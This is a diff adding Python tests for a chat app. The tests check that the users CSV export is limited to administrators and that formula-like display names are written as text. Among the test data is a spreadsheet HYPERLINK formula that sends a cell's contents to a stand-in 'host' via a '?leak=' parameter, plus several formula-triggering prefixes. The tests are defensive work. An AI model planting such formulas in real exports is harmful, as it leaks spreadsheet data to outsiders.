@@ -4,6 +4,9 @@ go to their signed-in owner alone, never cached; the browser cookie comes with p
 
 from __future__ import annotations
 
+import csv
+import io
+import tomllib
 from collections.abc import Iterator
 from datetime import timedelta
 
@@ -20,6 +23,7 @@ import accounts
 import audit
 from accounts import Account
 from memory import ChatStore
+from settings import PROJECT_DIR
 from web.routes import ROUTES
 from web.sign_in_cookies import BrowserCookieMiddleware
 
@@ -194,6 +198,42 @@ def test_files_go_to_their_signed_in_owner_alone(
     csv = client.get("/files/audit-log.csv", params={"action": audit.SIGNUP_TOGGLED})
     assert csv.status_code == 200 and "off" in csv.text
     assert csv.headers["content-type"].startswith("text/csv")
+
+
+def test_the_users_csv_is_for_administrators_and_writes_formulas_as_text(
+    client: TestClient, app_database: Engine, ada: Account
+) -> None:
+    formula = '=HYPERLINK("http://host/?leak="&A2,"Click for details")'
+    mallory = accounts.create_account(
+        app_database, username="mallory", password=PASSWORD, display_name=formula
+    )
+    for prefix in ("+1", "-2", "@SUM(A1)", "\tx", "\rx"):
+        accounts.create_account(
+            app_database,
+            username=f"u{len(prefix)}{ord(prefix[0])}",
+            password=PASSWORD,
+            display_name=prefix,
+        )
+    client.cookies.set("chat_auth", sign_in_cookie(client, app_database, mallory))
+    assert client.get("/files/users.csv").status_code == 403  # not an administrator
+
+    client.cookies.set("chat_auth", sign_in_cookie(client, app_database, ada))
+    response = client.get("/files/users.csv")
+
+    assert response.status_code == 200 and response.headers["cache-control"] == "no-store"
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    names = {row["username"]: row["display_name"] for row in rows}
+    assert names["mallory"] == "'" + formula
+    assert all(not name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names.values()), (
+        names
+    )
+    assert names["ada"] == "ada"
+
+
+def test_the_tables_own_export_is_off() -> None:
+    """The toolbar's CSV of any table would write what users typed as it is."""
+    config = tomllib.loads((PROJECT_DIR / ".streamlit" / "config.toml").read_text())
+    assert config["client"]["disableDataExport"] is True
 
 
 def _page(request: Request) -> Response:
